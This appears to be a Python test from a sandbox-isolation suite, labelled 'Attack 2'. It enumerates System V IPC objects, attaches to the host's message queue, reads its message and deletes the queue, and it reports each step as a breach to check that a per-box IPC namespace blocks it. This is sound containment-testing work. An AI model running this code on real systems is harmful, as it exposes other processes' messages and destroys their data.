"""Attack 2: IPC theft and vandalism. Enumerate every SysV object (``/proc/sysvipc``,
``msgctl(MSG_STAT)``, ``shmctl(SHM_STAT)``, ``semctl(SEM_STAT)``), attach the host's queue,
steal its message and remove it.

Defence: one IPC namespace per box. Outcome: the box sees no object it did not create, and
the host's queue still holds its message afterwards.
"""

import ctypes

import hostile_kit as kit
import sysv_ipc

MSG_STAT, SHM_STAT, SEM_STAT = 11, 13, 18


def make_pipe():
    probe = kit.Probe("02")
    key = int(kit.context().get("key", 0x1234))
    for kind in ("msg", "shm", "sem"):
        with open(f"/proc/sysvipc/{kind}", encoding="ascii") as handle:
            rows = handle.readlines()[1:]
        if rows:
            probe.breach(f"/proc/sysvipc/{kind} lists {len(rows)} object(s) of someone else")
    buffer = ctypes.create_string_buffer(512)
    found = [index for index in range(256)
             if kit.libc.msgctl(index, MSG_STAT, buffer) >= 0 or kit.libc.shmctl(index, SHM_STAT, buffer) >= 0
             or kit.libc.semctl(index, 0, SEM_STAT, buffer) >= 0]
    if found:
        probe.breach(f"*_STAT found objects at indexes {found[:10]}")
    try:
        queue = sysv_ipc.MessageQueue(key)
    except sysv_ipc.ExistentialError:
        probe.note("attach", "ExistentialError")
    else:
        probe.breach(f"attached the host's queue at key {key:#x}")
        try:
            stolen, _ = queue.receive(block=False)
            probe.breach(f"stole the message {stolen!r}")
            queue.remove()
            probe.breach("removed the host's queue")
        except sysv_ipc.Error as exc:
            probe.note("steal", type(exc).__name__)
    probe.report()
    return kit.forged()
